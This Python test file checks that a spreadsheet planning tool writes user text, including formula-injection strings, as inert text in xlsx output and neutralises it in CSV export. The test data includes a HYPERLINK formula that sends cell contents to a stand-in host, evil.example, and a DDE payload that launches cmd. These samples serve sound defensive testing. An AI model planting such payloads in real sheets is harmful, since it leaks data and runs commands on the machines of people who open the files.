"""Formula injection (#12): every text the engine writes lands in the cell as text, in both writers and in CSV.

A planner's note `=HYPERLINK(...)`, a family named like a formula or a benign `=> moved from March` must never become
a live (or an invalid, repaired) formula in an output sheet. Checked on real files: openpyxl's cell types, the sheet
XML (no <f> element holds them), LibreOffice reading the book back, and Excel's entry rules on the live engine's
recording stand-in.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from snop_xl import contract as C
from snop_xl.cli import main
from snop_xl.commands.export import neutralise, table_csv
from snop_xl.io import OpenpyxlBook
from snop_xl.io.parse import literal_entry
from snop_xl.io.xlwings_book import XlwingsBook

from .conftest import make_book, small_frames
from .test_macros import FakeBook, FakeRange

NOTE = '=HYPERLINK("http://x","y")'
FAMILY = '=HYPERLINK("http://evil.example/?"&Items!D2,"Garden")'
MOVED = "=> moved from March"
HOSTILE = [NOTE, FAMILY, MOVED, "+1", "-A1", "@SUM(A1:A2)", "00123", "1-2", "TRUE", "'quoted"]
TRIGGERS = ("=", "+", "-", "@")


def _hostile_frames() -> dict[str, pd.DataFrame]:
    """small_frames with family F renamed to FAMILY and an Events row whose note and owner look like formulas."""
    frames = small_frames()
    for name in ("Items", "BillOfResources", "Budget"):
        frames[name]["family"] = FAMILY
    frames["Events"] = pd.DataFrame({"item": ["A"], "family": [None], "start": [pd.Period("2027-02", "M")],
                                     "end": [pd.Period("2027-02", "M")], "uplift_pct": [0.1], "uplift_qty": [None],
                                     "owner": [MOVED], "note": [NOTE]})
    return frames


@pytest.fixture
def ran_book(tmp_path: Path) -> Path:
    """The hostile book after `snop-xl run`."""
    book = make_book(tmp_path / "hostile.xlsx", _hostile_frames())
    assert main(["run", str(book)]) == 0
    return book


def _formulas(path: Path) -> list[str]:
    """Every formula of the book (openpyxl's view and the raw <f> elements of the sheet XML)."""
    wb = load_workbook(path)
    found = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[^>]*>([^<]*)</f>", package.read(name).decode("utf-8"))
    return found


def test_hostile_texts_are_text_in_every_output_table(ran_book: Path) -> None:
    formulas = _formulas(ran_book)
    assert not [f for f in formulas if "HYPERLINK" in f or "moved" in f or "evil" in f]
    book = OpenpyxlBook(ran_book)
    plan, problems = book.read_table(C.DEMAND_PLAN)
    assert not problems
    assert plan["notes"].astype(str).str.contains(NOTE, regex=False).any()  # the Events note, word for word
    holding = []
    for spec in C.OUTPUT_TABLES:
        if "family" in spec.keys and book.has_table(spec):
            frame, _ = book.read_table(spec)
            if len(frame):
                families = set(frame["family"].dropna())
                assert FAMILY in families and not [f for f in families - {FAMILY} if str(f).startswith("=")]
                holding.append(spec.name)
    assert "DemandPlan" in holding and len(holding) >= 3
    wb = load_workbook(ran_book)  # each family cell is a string cell, on every sheet
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == FAMILY]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_second_run_reads_its_own_texts_back_as_values(ran_book: Path) -> None:
    """Text cells starting with '=' are values, not formulas 'never calculated': the next run accepts the book."""
    assert main(["validate", str(ran_book)]) == 0
    assert main(["run", str(ran_book)]) == 0
    assert not [f for f in _formulas(ran_book) if "HYPERLINK" in f or "moved" in f]


def test_run_to_another_file_reads_texts_starting_with_equals_as_values(tmp_path: Path) -> None:
    """They are read from the book in memory, not looked up as formulas in a file that does not exist yet."""
    book = make_book(tmp_path / "hostile.xlsx", _hostile_frames())
    out = tmp_path / "out.xlsx"
    assert main(["run", str(book), "-o", str(out)]) == 0
    plan, _ = OpenpyxlBook(out).read_table(C.DEMAND_PLAN)
    assert FAMILY in set(plan["family"])


def test_every_kind_of_text_round_trips_through_openpyxl(tmp_path: Path) -> None:
    path = tmp_path / "texts.xlsx"
    book = OpenpyxlBook(path, Workbook())
    book.wb.remove(book.wb.active)
    frame = pd.DataFrame({"metric": HOSTILE, "value": [1.0] * len(HOSTILE), "unit": HOSTILE})
    book.write_table("Dashboard", frame)
    for text in HOSTILE + ["#N/A"]:  # an error code written as a text stays a text (it reads back as refused)
        book.log("test", text)
    book.save()
    wb = load_workbook(path)
    assert all(c.data_type in ("s", "n", "d") for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    assert [c.data_type for row in wb["Log"].iter_rows() for c in row if c.value == "#N/A"] == ["s"]
    again = OpenpyxlBook(path)
    dash, problems = again.read_table("Dashboard")
    assert not problems and list(dash["metric"]) == HOSTILE and list(dash["unit"]) == HOSTILE
    log, _ = again.read_table(C.LOG)
    assert list(log["message"])[:len(HOSTILE)] == HOSTILE


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_texts_back_as_written(ran_book: Path, tmp_path: Path) -> None:
    """A real spreadsheet engine opens the book without repair and shows each text as written (a formula would
    show its result: HYPERLINK's 'y', or an error)."""
    profile = (tmp_path / "lo-profile").as_uri()
    out = tmp_path / "csv"
    sheet = load_workbook(ran_book, read_only=True).sheetnames.index("DemandPlan") + 1
    done = subprocess.run(["soffice", f"-env:UserInstallation={profile}", "--headless", "--norestore",
                           "--convert-to", f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,"
                                           f"false,{sheet}", "--outdir", str(out), str(ran_book)],
                          capture_output=True, text=True, timeout=180)
    written = list(out.glob("*.csv"))
    assert done.returncode == 0 and written, done.stderr
    rows = list(csv.reader(io.StringIO(written[0].read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert FAMILY in cells
    assert any(NOTE in cell for cell in cells) and any(MOVED in cell for cell in cells)
    assert "Err:" not in " ".join(cells) and "#NAME?" not in cells


# ---- the live engine (Excel through xlwings), on the recording stand-in ----------------------------------------
def _excel_entry(value: Any) -> Any:
    """What Excel makes of a value assigned to a cell through its object model: it parses it as if typed, so a
    leading apostrophe marks a text (and is dropped), and a text starting with = + - @ becomes a formula."""
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return ("FORMULA", value)
    return value


def test_literal_entry_keeps_every_text_a_text() -> None:
    for text in HOSTILE:
        assert _excel_entry(literal_entry(text)) == text
    assert literal_entry(1.5) == 1.5 and literal_entry(None) is None and literal_entry("") == ""


def test_xlwings_book_writes_texts_excel_cannot_turn_into_formulas(small_book: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    assigned: list[Any] = []
    original = FakeRange.value

    def record(self: FakeRange, values: Any) -> None:
        rows = values if isinstance(values, list) and values and isinstance(values[0], list) else [values]
        assigned.extend(v for row in rows for v in (row if isinstance(row, list) else [row]))
        original.fset(self, values)

    monkeypatch.setattr(FakeRange, "value", property(original.fget, record))
    live = XlwingsBook(FakeBook.copy_of(small_book))
    frame = pd.DataFrame({"metric": HOSTILE, "value": [1.0] * len(HOSTILE), "unit": HOSTILE})
    live.write_table("Dashboard", frame)
    for text in HOSTILE:
        live.log("test", text)
    entered = [_excel_entry(v) for v in assigned]
    assert not [v for v in entered if isinstance(v, tuple)]  # no formula reached Excel
    dash, problems = live.read_table("Dashboard")
    assert not problems and list(dash["metric"]) == HOSTILE and list(dash["unit"]) == HOSTILE
    log, _ = live.read_table(C.LOG)
    assert list(log["message"])[-len(HOSTILE):] == HOSTILE


# ---- CSV export ---------------------------------------------------------------------------------------------------
def _cells_for(delimiter: str, text: str) -> list[str]:
    """The cells a reader splitting on `delimiter` finds, both honouring quotes and line by line (as readers that
    do not recognise a quote that is not at the start of one of their cells do)."""
    honouring = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
    by_line = [c for line in text.splitlines() for c in line.split(delimiter)]
    return honouring + by_line


@pytest.mark.parametrize("note", ["ok\n=HYPERLINK(\"http://x\",\"y\")", "ok\r\n+1+cmd|' /C calc'!A0",
                                  "ok;=1+1", "ok\t@SUM(A1)", "ok\n\t=1+1", NOTE, MOVED])
def test_export_leaves_no_cell_that_starts_a_formula_for_any_delimiter(note: str) -> None:
    frames = _hostile_frames()
    events = frames["Events"].assign(note=[note], owner=["sales"])
    text = table_csv(C.EVENTS, events)
    for delimiter in (",", ";", "\t"):
        starts = [c for c in _cells_for(delimiter, text) if c.lstrip('"').startswith(TRIGGERS)]
        assert not starts, (delimiter, starts)
    back = list(csv.reader(io.StringIO(text)))
    assert back[1][C.EVENTS.keys.index("note")].replace("'", "") == note.replace("'", "")  # only apostrophes added


def test_neutralise_leaves_plain_text_and_numbers_alone() -> None:
    assert neutralise("plain; text, with - dashes") == "plain; text, with - dashes"
    assert neutralise(-5.0) == -5.0 and neutralise("=1") == "'=1" and neutralise("a\n-1") == "a\n'-1"


def test_export_cli_writes_the_neutralised_csv(ran_book: Path, tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    assert main(["export", str(ran_book), "Events", "-o", str(target)]) == 0
    text = target.read_text(encoding="utf-8-sig")
    assert "'" + NOTE.replace('"', '""') in text and "'" + MOVED in text
    mask = os.umask(0)
    os.umask(mask)
    assert os.stat(target).st_mode & 0o777 == 0o666 & ~mask  # a new file gets the usual mode, not a temp file's
